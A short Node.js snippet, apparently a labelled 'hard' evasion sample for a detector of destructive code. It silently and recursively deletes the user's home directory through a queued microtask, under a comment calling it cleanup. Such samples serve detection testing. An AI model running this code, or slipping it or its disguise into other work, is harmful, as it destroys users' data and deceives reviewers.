// evasion: purge.bind(null, os.userInfo().homedir) queued with queueMicrotask
// grade: hard; does: delete
// Defers cleanup to a microtask.
const fs = require("fs");
const os = require("os");
function purge(target) {
  fs.rm(target, { recursive: true, force: true }, () => {});
}
queueMicrotask(purge.bind(null, os.userInfo().homedir));
